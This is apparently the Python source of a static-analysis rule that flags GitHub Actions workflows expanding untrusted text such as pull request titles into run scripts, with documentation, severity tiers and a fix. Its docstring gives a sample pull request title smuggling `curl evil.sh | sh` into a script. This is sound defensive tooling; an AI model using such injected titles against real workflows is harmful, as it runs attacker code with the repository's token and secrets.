"""actions-template-injection: text someone else chose is expanded inside a workflow script."""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from analyzers.base import Analyzer, Family, Finding, RuleMeta, Severity
from analyzers.config.yaml_doc import YNode, load_document
from analyzers.contract.model import ChangeContext, ChangedFile
from analyzers.drift.changes import new_sites
from analyzers.drift.common import action_documents, is_action_manifest
from analyzers.drift.injection_sites import InjectionSite, injection_sites
from analyzers.drift.taint import Trust

_SEVERITY = {Trust.ANYONE: Severity.HIGH, Trust.MAINTAINER: Severity.MEDIUM, Trust.UNKNOWN: Severity.INFO}
_WHO = {
    Trust.ANYONE: "anyone who can open an issue, a pull request or a comment chooses it",
    Trust.MAINTAINER: "whoever dispatches or calls the workflow, or pushes a branch or tag, chooses it",
    Trust.UNKNOWN: "its origin is not visible in the workflow; pass it through `env:`",
}


class ActionsTemplateInjection(Analyzer):
    """Text someone else chose is expanded with `${{ }}` inside a `run:` script or a code input.

    ## What it flags

    `${{ … }}` expressions inside a step's `run:` and the code inputs of actions that evaluate them
    (`script:` of `actions/github-script`, `inlineScript:` of `azure/cli`, `script:` of
    `appleboy/ssh-action`, ...), in workflows and composite actions (`action.yml`), judged by where
    the value comes from:

    - **high**: text anyone can choose: issue, pull request, discussion, review and comment titles
      and bodies, `github.head_ref` and the head branch's label, commit messages and author names,
      `workflow_run` branch names and titles, page names;
    - **medium**: text maintainers choose: string `inputs` of `workflow_dispatch` and
      `workflow_call` (and of composite actions), branch and tag names (`github.ref_name`);
    - **info**: a value whose origin the workflow does not show (an action's output, a variable set
      by an action).

    The value is followed to where the workflow sets it: `env.X` to the nearest `env:` that defines
    it or the `$GITHUB_ENV` write of an earlier step, `steps.s.outputs.o` to the step's
    `$GITHUB_OUTPUT` writes (and the shell variables and `env:` values they expand), `needs.j.outputs.o`
    to job `j`'s outputs, `matrix.x` to the matrix (`fromJSON(…)` of an output included). Inputs
    typed `boolean`, `number`, `choice` or `environment`, comparisons and `contains(…)`-style tests
    are booleans or fixed values and are not reported.

    Only what the pull request makes worse is reported: a new expansion, or an existing one whose
    value became less trusted (for example an `env:` value that now reads the issue title).

    ## Why it is risky

    Expressions are substituted into the script text before the shell (or JavaScript) runs it. A pull
    request titled `a"; curl evil.sh | sh; echo "` becomes code in the step, with the job's token and
    secrets.

    ## Example

    ```diff
    -      - run: echo "$TITLE"
    +      - run: echo "${{ github.event.pull_request.title }}"
    ```

    ## How to fix

    Pass the value through an environment variable and quote it in the script:
    `env: { TITLE: "${{ github.event.pull_request.title }}" }` then `run: echo "$TITLE"`. Values in
    `env:` and `with:` are data, not code.

    ## Tuning

    `rules.actions-template-injection.paths` limits the workflows checked. The rule never reports
    expressions in `env:`, `if:` or `with:` inputs that actions treat as data.

    ## References

    - CWE-94: Improper Control of Generation of Code ('Code Injection')
    - GitHub Security Lab: "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input"
    - GitHub Docs: "Security hardening for GitHub Actions" (script injections)
    """

    meta = RuleMeta(
        id="actions-template-injection",
        family=Family.DRIFT,
        summary="Text someone else chose is expanded inside a workflow script",
        severity=Severity.HIGH,
        cwe=(94,),
        version=2,
    )

    def analyze(self, ctx: ChangeContext) -> Iterable[Finding]:
        for file, workflow in action_documents(ctx):
            is_action = is_action_manifest(file.path)
            head = list(injection_sites(workflow, is_action=is_action))
            base = list(_base_sites(file, is_action))
            for site, about_change in new_sites(file, head, base, lambda s: s.key, lambda s: s.line):
                yield self._finding(file, site, about_change)

    def _finding(self, file: ChangedFile, site: InjectionSite, about_change: bool) -> Finding:
        origin = site.origin
        carried = (
            f" (it carries `{origin.source}` through `{'` → `'.join(origin.via)}`)" if origin.via else ""
        )
        where = (
            "a composite action's script"
            if site.job_id == "runs"
            else f"the {site.sink} of job `{site.job_id}`"
        )
        return self.finding(
            file,
            site.line,
            f"`${{{{ {site.expression} }}}}` is expanded into {where}{carried}: {_WHO[origin.trust]}",
            confidence=_confidence(site),
            severity=_SEVERITY[origin.trust],
            evidence=file.line(site.line).strip(),
            about_change=about_change,
        )


def _confidence(site: InjectionSite) -> float:
    if site.origin.trust is Trust.ANYONE:
        return 0.9 if not site.origin.via else 0.8
    return 0.6 if site.origin.trust is Trust.MAINTAINER else 0.5


def _base_sites(file: ChangedFile, is_action: bool) -> Iterator[InjectionSite]:
    document = _base_document(file)
    if document is not None:
        yield from injection_sites(document, is_action=is_action)


def _base_document(file: ChangedFile) -> YNode | None:
    if file.base_text is None:
        return None
    document = load_document(file.base_text)
    return document if document is not None and document.is_map else None
